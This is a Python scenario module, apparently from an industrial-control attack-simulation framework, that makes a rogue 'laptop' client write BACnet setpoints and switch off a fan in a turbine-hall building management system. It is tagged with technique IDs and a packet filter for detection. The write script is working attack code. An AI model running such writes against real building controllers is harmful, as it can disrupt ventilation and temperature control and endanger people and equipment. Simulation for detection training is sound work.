"""Setpoint and fan of the hall are written by the workstation."""

from __future__ import annotations

import contextlib

from bacpypes3.apdu import ErrorRejectAbortNack
from bacpypes3.pdu import Address
from bacpypes3.primitivedata import ObjectIdentifier

from ..clients.hmi_bacnet import workstation
from ..node import Node

TITLE = "BACnet setpoints and the fan of the turbine hall written by a new client"
TECHNIQUES = ("T1692.001", "T0836")
ORIGIN = "laptop"
ENTITIES = ("laptop", "bms-hall")
EVIDENCE = "bacapp.confirmed_service == 15 && ip.src == 10.20.1.99"

WRITES = (("analog-value,1", 35.0), ("analog-value,2", 35.0), ("binary-value,1", "inactive"))


async def run(node: Node) -> None:
    """WriteProperty of three present-values."""
    application = workstation(node, 4_000_002, "TOOL")
    for point, value in WRITES:
        with contextlib.suppress(ErrorRejectAbortNack):
            await application.write_property(
                Address(node.peer("bms-hall")), ObjectIdentifier(point), "present-value", value
            )
        node.pause(0.6)
    application.close()
